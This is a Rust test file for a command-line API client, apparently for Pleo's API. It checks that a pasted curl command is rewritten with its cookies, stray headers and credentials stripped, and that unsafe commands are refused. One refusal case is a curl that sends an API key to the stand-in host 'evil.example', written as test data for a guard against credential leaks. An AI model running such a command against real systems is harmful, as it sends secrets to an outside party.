//! `send --curl`: a curl command from a file or standard input, its credential for this run alone.

use std::io::Write as _;
use std::process::{Output, Stdio};

use super::super::{code, err, out, pleoscope};

/// Runs with a command on standard input.
fn given(words: &[&str], command: &str) -> Output {
    let mut program = pleoscope(words);
    program.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = program.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(command.as_bytes()).unwrap();
    drop(stdin);
    child.wait_with_output().unwrap()
}

#[test]
fn a_command_becomes_a_request_with_its_credential() {
    let command = "curl -k 'https://external.staging.pleo.io/v2/employees?limit=5' -b 'a=CNRYcookie' -H 'X-Own: mine' -H 'X-Other: CNRYheader0123456789' \\\n  -u 'CNRYkey0123456789:'\n";
    let ran = given(&["send", "--curl", "-", "-q", "code=E1", "--as", "curl"], command);
    assert_eq!(code(&ran), 0, "{}", err(&ran));
    assert_eq!(
        out(&ran),
        "curl 'https://external.staging.pleo.io/v2/employees?code=E1&limit=5' \\\n  --user \"$PLEOSCOPE_STAGING_API_KEY:\" \\\n  --header 'Accept: application/json;charset=UTF-8' \\\n  --header 'X-Own: mine'\n"
    );
    for told in ["Cookies are left out", "x-other", "--insecure (certificates are always checked)"] {
        assert!(err(&ran).contains(told), "{}", err(&ran));
    }
    assert!(!err(&ran).contains("CNRY"), "{}", err(&ran));
    let replaced = given(&["send", "--curl", "-", "-q", "limit=7", "--as", "curl"], command);
    assert!(
        out(&replaced).starts_with("curl 'https://external.staging.pleo.io/v2/employees?limit=7' "),
        "{}",
        out(&replaced)
    );
    let told = given(&["send", "--curl", "-", "--as", "http"], command);
    assert!(out(&told).contains("Authorization: Basic <"), "{}", out(&told));
}

#[test]
fn what_it_cannot_mean_here_is_refused_with_a_sentence() {
    let host = "https://external.pleo.io/v2/employees";
    for (words, command, wanted) in [
        (&["send", "--curl", "-"][..], format!("curl {host} -u CNRYkey:"), "add --env production"),
        (&["send", "--curl", "-"], "curl https://evil.example/ -u CNRYkey:".to_owned(), "leads to evil.example"),
        (&["send", "--curl", "-"], "wget CNRY".to_owned(), "no curl command"),
        (&["send", "--curl", "/nonexistent/x"], String::new(), "cannot be read"),
        (&["send", "--curl", "-", "--body", "-"], String::new(), "not both"),
        (&["send", "--curl", "-", "GET", "/v2/x"], String::new(), "cannot be used with"),
        (&["diff", "--curl", "-"], format!("curl {host}"), "diff asks both"),
        (
            &["send", "--env", "production", "--curl", "-"],
            "curl -d @b.json https://external.pleo.io/v1/vendors".to_owned(),
            "add --body b.json",
        ),
        (
            &["send", "--env", "production", "--curl", "-"],
            "curl -X DELETE https://external.pleo.io/v9/x -u CNRYkey:".to_owned(),
            "--allow-production-write",
        ),
    ] {
        let ran = given(words, &command);
        assert_eq!((code(&ran), out(&ran).as_str()), (2, ""), "{command}: {}", err(&ran));
        assert!(err(&ran).contains(wanted) && !err(&ran).contains("CNRY"), "{command}: {}", err(&ran));
    }
}
